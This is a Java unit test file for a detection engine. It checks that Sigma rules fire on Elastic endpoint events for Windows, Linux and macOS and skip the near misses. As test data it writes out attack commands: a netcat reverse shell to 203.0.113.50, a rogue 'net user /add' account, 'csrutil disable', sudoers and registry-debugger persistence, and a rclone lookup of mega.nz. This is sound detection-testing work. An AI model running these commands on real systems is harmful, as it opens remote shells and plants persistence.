package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.sigma.domain.Logsource;
import org.junit.jupiter.api.Test;

/**
 * Endpoint events in the Elastic Common Schema, as Elastic Defend (agent.type endpoint) and
 * Auditbeat send them, reach the Sigma logsources of their host's operating system: processes
 * started ({@code process_creation}), connections ({@code network_connection}), files created
 * ({@code file_event}) and, on Windows, DNS lookups and registry values set, with Sysmon's field
 * names read from ECS's. A corpus rule fires on the attack and not on its near miss or another
 * platform's event. Documents follow Elastic's ECS field reference with invented values. Without the
 * corpus ({@code SOCAAS_CORPUS}) the tests are skipped.
 */
class ElasticEcsLogsourcesTest {

    private static final Logsource WINDOWS_PROCESS_CREATION = new Logsource("windows", "process_creation", null);
    private static final Logsource LINUX_PROCESS_CREATION = new Logsource("linux", "process_creation", null);

    /** An Elastic Defend process start on a host of the operating system. */
    private static String defendProcess(String os, String parent, String image, String commandLine) {
        boolean windows = os.equals("windows");
        return """
                {"@timestamp": "2026-03-01T09:15:02.123Z", "agent": {"type": "endpoint", "version": "8.17.0"},
                 "ecs": {"version": "8.11.0"}, "data_stream": {"dataset": "endpoint.events.process"},
                 "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "%s",
                   "module": "endpoint", "dataset": "endpoint.events.process"},
                 "host": {"hostname": "ws-031", "name": "ws-031", "os": {"type": "%s", "family": "%s"}},
                 "user": {"name": "kim", "domain": "%s"},
                 "process": {"pid": 4242, "executable": %s, "name": "%s", "command_line": %s,
                   "working_directory": %s, "hash": {"md5": "0cc175b9c0f1b6a831c399e269772661",
                   "sha1": "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8",
                   "sha256": "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"},
                   "parent": {"pid": 4100, "executable": %s, "command_line": %s}}}""".formatted(
                        windows ? "start" : "exec",
                        os,
                        windows ? "windows" : os.equals("linux") ? "debian" : "macos",
                        windows ? "CORP" : os.equals("linux") ? "ws-031" : "ws-031",
                        quote(image),
                        image.substring(Math.max(image.lastIndexOf('/'), image.lastIndexOf('\\')) + 1),
                        quote(commandLine),
                        quote(windows ? "C:\\Users\\kim\\" : "/home/kim"),
                        quote(parent),
                        quote(parent));
    }

    private static String quote(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    @Test
    void processStartsFireProcessCreationRulesOfTheirPlatform() {
        assumeCorpus();
        String whoami = id("rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml");
        String netUserAdd = id("rules/windows/process_creation/proc_creation_win_net_user_add.yml");
        String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
        String csrutil = id("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml");

        String discovery = defendProcess(
                "windows", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\whoami.exe", "whoami.exe /all");
        assertThat(logsources(ingestedJson(discovery))).contains(WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(discovery)).contains(whoami);
        assertThat(firedJson(defendProcess(
                        "windows",
                        "C:\\Windows\\System32\\cmd.exe",
                        "C:\\Windows\\System32\\whoami.exe",
                        "whoami.exe /user")))
                .doesNotContain(whoami);
        assertThat(firedJson(defendProcess(
                        "windows",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "C:\\Windows\\System32\\net.exe",
                        "net user svc_sql2 Spring2026! /add")))
                .contains(netUserAdd);

        String shell = defendProcess("linux", "/usr/sbin/apache2", "/usr/bin/nc", "nc 203.0.113.50 4444 -e /bin/bash");
        assertThat(logsources(ingestedJson(shell)))
                .contains(LINUX_PROCESS_CREATION)
                .doesNotContain(WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(shell)).contains(reverseShell);
        assertThat(firedJson(defendProcess("linux", "/usr/bin/bash", "/tmp/whoami.exe", "whoami.exe /all")))
                .doesNotContain(whoami);

        assertThat(firedJson(defendProcess("macos", "/bin/zsh", "/usr/bin/csrutil", "csrutil disable")))
                .contains(csrutil);
        assertThat(firedJson(defendProcess("macos", "/bin/zsh", "/usr/bin/csrutil", "csrutil status")))
                .doesNotContain(csrutil);
    }

    @Test
    void auditbeatExecutionsReadTheirCommandFromTheTitleOrTheArguments() {
        assumeCorpus();
        String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
        String auditbeat = """
                {"@timestamp": "2026-03-01T09:15:02.123Z", "agent": {"type": "auditbeat", "version": "8.17.0"},
                 "ecs": {"version": "8.0.0"}, "event": {"module": "auditd", "category": ["process"], "type": ["start"],
                   "action": "executed", "outcome": "success"},
                 "host": {"name": "web-01", "os": {"type": "linux", "family": "redhat"}},
                 "user": {"name": "www-data", "id": "33"},
                 "process": {"pid": 31337, "executable": "/usr/bin/nc", "name": "nc", "title": "%s",
                   "working_directory": "/var/www", "parent": {"pid": 1200}},
                 "auditd": {"sequence": 8811, "result": "success", "summary": {"actor": {"primary": "www-data"}}}}""";
        assertThat(logsources(ingestedJson(auditbeat.formatted("nc 203.0.113.50 4444 -e /bin/bash"))))
                .contains(LINUX_PROCESS_CREATION);
        assertThat(firedJson(auditbeat.formatted("nc 203.0.113.50 4444 -e /bin/bash")))
                .contains(reverseShell);
        assertThat(firedJson(auditbeat.formatted("nc -z 203.0.113.50 443"))).doesNotContain(reverseShell);
        // Auditbeat's system process dataset has neither: its arguments are the command line
        String systemProcess = """
                {"@timestamp": "2026-03-01T09:15:02.123Z", "agent": {"type": "auditbeat"}, "ecs": {"version": "8.0.0"},
                 "event": {"module": "system", "dataset": "process", "category": ["process"], "type": ["start"],
                   "action": "process_started", "kind": "event"},
                 "host": {"name": "web-01", "os": {"type": "linux"}}, "user": {"name": "www-data"},
                 "process": {"pid": 31337, "executable": "/usr/bin/nc", "name": "nc", "args": [%s], "parent": {"pid": 1200}}}""";
        assertThat(firedJson(systemProcess.formatted("\"nc\", \"203.0.113.50\", \"4444\", \"-e\", \"/bin/bash\"")))
                .contains(reverseShell);
        assertThat(firedJson(systemProcess.formatted("\"nc\", \"-z\", \"203.0.113.50\", \"443\"")))
                .doesNotContain(reverseShell);
    }

    private static String defendNetwork(String os, String image, String direction, String ip, int port) {
        return """
                {"@timestamp": "2026-03-01T09:15:03Z", "agent": {"type": "endpoint"}, "ecs": {"version": "8.11.0"},
                 "event": {"kind": "event", "category": ["network"], "type": ["start"], "action": "connection_attempted",
                   "module": "endpoint", "dataset": "endpoint.events.network"},
                 "host": {"name": "ws-031", "os": {"type": "%s"}}, "user": {"name": "kim", "domain": "CORP"},
                 "network": {"direction": "%s", "transport": "tcp", "type": "ipv4"},
                 "source": {"ip": "10.1.2.31", "port": 51522}, "destination": {"ip": "%s", "port": %d},
                 "process": {"pid": 4242, "executable": %s, "name": "x"}}""".formatted(os, direction, ip, port, quote(image));
    }

    @Test
    void connectionsFireNetworkConnectionRulesWithTheirDirection() {
        assumeCorpus();
        String certutil = id("rules/windows/network_connection/net_connection_win_certutil_initiated_connection.yml");
        String backConnect = id("rules/linux/network_connection/net_connection_lnx_back_connect_shell_dev.yml");
        assertThat(firedJson(
                        defendNetwork("windows", "C:\\Windows\\System32\\certutil.exe", "egress", "198.51.100.7", 443)))
                .contains(certutil);
        // the rule asks for connections the program initiated
        assertThat(firedJson(
                        defendNetwork("windows", "C:\\Windows\\System32\\certutil.exe", "ingress", "10.1.2.31", 443)))
                .doesNotContain(certutil);
        assertThat(firedJson(
                        defendNetwork("windows", "C:\\Windows\\System32\\svchost.exe", "egress", "198.51.100.7", 443)))
                .doesNotContain(certutil);
        assertThat(firedJson(defendNetwork("linux", "/usr/bin/bash", "egress", "198.51.100.7", 4444)))
                .contains(backConnect)
                .doesNotContain(certutil);
        assertThat(firedJson(defendNetwork("linux", "/usr/bin/bash", "egress", "127.0.0.1", 4444)))
                .doesNotContain(backConnect);
    }

    @Test
    void filesDnsLookupsAndRegistryValuesFireTheirRules() {
        assumeCorpus();
        String sudoers = id("rules/linux/file_event/file_event_lnx_persistence_sudoers_files.yml");
        String file = """
                {"@timestamp": "2026-03-01T09:15:04Z", "agent": {"type": "endpoint"}, "ecs": {"version": "8.11.0"},
                 "event": {"kind": "event", "category": ["file"], "type": ["%s"], "action": "%s", "module": "endpoint"},
                 "host": {"name": "web-01", "os": {"type": "linux"}}, "user": {"name": "root"},
                 "file": {"path": "/etc/sudoers.d/90-backdoor", "name": "90-backdoor"},
                 "process": {"pid": 4242, "executable": "/usr/bin/tee"}}""";
        assertThat(firedJson(file.formatted("creation", "creation"))).contains(sudoers);
        // a deletion is not a file written
        assertThat(firedJson(file.formatted("deletion", "deletion"))).doesNotContain(sudoers);

        String mega = id("rules/windows/dns_query/dns_query_win_mega_nz.yml");
        String lookup = """
                {"@timestamp": "2026-03-01T09:15:05Z", "agent": {"type": "endpoint"}, "ecs": {"version": "8.11.0"},
                 "event": {"kind": "event", "category": ["network"], "type": ["protocol", "info"], "action": "lookup_requested",
                   "module": "endpoint"},
                 "host": {"name": "ws-031", "os": {"type": "windows"}}, "user": {"name": "kim", "domain": "CORP"},
                 "dns": {"question": {"name": "%s", "type": "A"}},
                 "process": {"pid": 4242, "executable": "C:\\\\Users\\\\kim\\\\AppData\\\\Local\\\\Temp\\\\rclone.exe"}}""";
        assertThat(firedJson(lookup.formatted("gfs206n141.userstorage.mega.co.nz")))
                .contains(mega);
        assertThat(firedJson(lookup.formatted("www.example.com"))).doesNotContain(mega);

        String hangs = id("rules/windows/registry/registry_set/registry_set_hangs_debugger_persistence.yml");
        String registry = """
                {"@timestamp": "2026-03-01T09:15:06Z", "agent": {"type": "endpoint"}, "ecs": {"version": "8.11.0"},
                 "event": {"kind": "event", "category": ["registry"], "type": ["change"], "action": "modification",
                   "module": "endpoint"},
                 "host": {"name": "ws-031", "os": {"type": "windows"}}, "user": {"name": "kim", "domain": "CORP"},
                 "registry": {"hive": "HKLM", "key": "%1$s", "path": "HKEY_LOCAL_MACHINE\\\\%1$s\\\\Debugger", "value": "Debugger",
                   "data": {"strings": ["C:\\\\ProgramData\\\\svc.exe"], "type": "REG_SZ"}},
                 "process": {"pid": 4242, "executable": "C:\\\\Windows\\\\System32\\\\reg.exe"}}""";
        assertThat(firedJson(
                        registry.formatted("SOFTWARE\\\\Microsoft\\\\Windows\\\\Windows Error Reporting\\\\Hangs")))
                .contains(hangs);
        assertThat(firedJson(
                        registry.formatted("SOFTWARE\\\\Microsoft\\\\Windows\\\\Windows Error Reporting\\\\Consent")))
                .doesNotContain(hangs);
    }

    @Test
    void winlogbeatDocumentsStayTheWindowsChannelsOwn() {
        // a Winlogbeat Security 4688 with ECS fields: routed by its channel, not as an ECS endpoint event
        String winlogbeat = """
                {"@timestamp": "2026-03-01T09:15:02Z", "agent": {"type": "winlogbeat"}, "ecs": {"version": "8.0.0"},
                 "event": {"code": "4688", "category": ["process"], "type": ["start"], "provider": "Microsoft-Windows-Security-Auditing"},
                 "host": {"name": "ws-031", "os": {"type": "windows"}},
                 "process": {"executable": "C:\\\\Windows\\\\System32\\\\whoami.exe", "command_line": "whoami /all"},
                 "winlog": {"channel": "Security", "event_id": 4688, "computer_name": "ws-031",
                   "event_data": {"NewProcessName": "C:\\\\Windows\\\\System32\\\\whoami.exe", "CommandLine": "whoami /all"}}}""";
        assertThat(logsources(ingestedJson(winlogbeat)))
                .contains(new Logsource("windows", "process_creation", "security"))
                .doesNotContain(WINDOWS_PROCESS_CREATION);
    }
}
